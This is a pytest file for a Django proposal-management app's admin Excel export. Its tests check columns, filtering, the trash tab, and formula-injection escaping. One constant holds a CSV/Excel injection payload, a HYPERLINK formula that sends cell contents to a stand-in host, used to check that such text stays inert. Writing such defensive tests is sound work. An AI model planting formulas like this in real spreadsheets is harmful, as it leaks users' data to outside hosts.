"""The Excel export of the admin list: same columns as the screen, every row of the current
filter, and text that looks like a formula stays text."""

import io
import re
from datetime import datetime

import openpyxl
import pytest
from django.utils import timezone

from deliberation.agencies.selectors import city
from deliberation.agencies.services import add_department
from deliberation.agencies.sites import site_reverse
from deliberation.proposals import admin_services
from tests.factories import agency_admin, given_proposal, given_proposal_in_review, officer

pytestmark = pytest.mark.django_db

MALICIOUS = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture(autouse=True)
def fast_passwords(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def client(client, settings):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return client


def workbook(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def screen_headers(html: str) -> list[str]:
    thead = re.search(r"<thead>(.*?)</thead>", html, re.S).group(1)
    return [h for h in re.findall(r'<th scope="col">([^<]*)</th>', thead)]


def test_the_export_has_the_screens_columns_and_every_filtered_row(client, agency):
    admin = agency_admin(agency)
    department = add_department(agency=agency, name="도로과")
    answerer = officer(agency, department)
    reviewed = given_proposal_in_review(agency=agency, title=MALICIOUS, policy_category="transport")
    admin_services.assign_lead_department(actor=admin, review_id=reviewed.review.pk, department_id=department.pk)
    answer = admin_services.submit_answer(actor=answerer, review_id=reviewed.review.pk, body="의견", decision="accept")
    admin_services.approve_answer(actor=admin, answer_id=answer.pk)
    for i in range(55):
        given_proposal(agency=agency, title=f"+제안 {i}" if i == 0 else f"제안 {i}")
    trashed = given_proposal(agency=agency, title="버린 제안")
    admin_services.apply_bulk_action(actor=admin, proposal_ids=[trashed.pk], action="trash")

    client.force_login(admin)
    html = client.get(site_reverse(agency, "manage_proposals")).content.decode()
    response = client.get(site_reverse(agency, "manage_proposals_export"))
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="proposals-{agency.slug}-{today}.xlsx"'
    sheet = workbook(response)
    rows = list(sheet.iter_rows(values_only=True))
    headers = list(rows[0])
    assert headers == screen_headers(html)
    assert headers[:4] == ["No.", "Public", "Title", "Author"] and "Agency" not in headers
    assert len(rows) == 1 + 56  # every page, not the first 50; the trash is its own tab
    assert "버린 제안" not in {r[headers.index("Title")] for r in rows}

    by_title = {r[headers.index("Title")]: dict(zip(headers, r)) for r in rows[1:]}
    row = by_title[MALICIOUS]
    assert row["No."] == reviewed.pk and row["Supports"] == 1 and row["Replies"] == 1
    assert row["Lead department"] == "도로과" and row["Department decision"] == "accept"
    assert row["Admin approval"] == "approved" and row["Policy category"] == "transport"
    assert row["Public"] == "Public" and row["Author"] == reviewed.author_label
    assert isinstance(row["Created"], datetime) and isinstance(row["Review deadline"], datetime)
    assert row["Created"].strftime("%Y-%m-%d %H:%M") == timezone.localtime(reviewed.created_at).strftime(
        "%Y-%m-%d %H:%M")
    assert row["Overdue"] is None

    # Formula-looking text is a text cell with Excel's quote prefix, never a formula.
    column = headers.index("Title") + 1
    title_cells = next(sheet.iter_cols(min_col=column, max_col=column, min_row=2))
    assert all(cell.data_type == "s" for cell in title_cells)
    assert {c.value for c in title_cells if c.quotePrefix} == {MALICIOUS, "+제안 0"}
    assert next(c for c in title_cells if c.value == "제안 1").quotePrefix is False


def test_the_export_follows_the_tab_and_filters(client, agency):
    admin = agency_admin(agency)
    given_proposal(agency=agency, title="교통 제안", policy_category="transport")
    given_proposal(agency=agency, title="복지 제안", policy_category="welfare")
    trashed = given_proposal(agency=agency, title="버린 교통 제안", policy_category="transport")
    admin_services.apply_bulk_action(actor=admin, proposal_ids=[trashed.pk], action="trash")
    client.force_login(admin)
    url = site_reverse(agency, "manage_proposals_export")
    titles = [r[2] for r in workbook(client.get(url, {"category": "transport"})).iter_rows(min_row=2, values_only=True)]
    assert titles == ["교통 제안"]
    titles = [r[2] for r in workbook(client.get(url, {"tab": "trash"})).iter_rows(min_row=2, values_only=True)]
    assert titles == ["버린 교통 제안"]


def test_the_citys_export_has_the_agency_column(client, agency):
    given_proposal(agency=agency, title="기관 제안")
    client.force_login(agency_admin(city()))
    sheet = workbook(client.get(site_reverse(city(), "manage_proposals_export"), {"agency": agency.slug}))
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("No.", "Agency", "Public")
    assert [(r[1], r[3]) for r in rows[1:]] == [(agency.name, "기관 제안")]
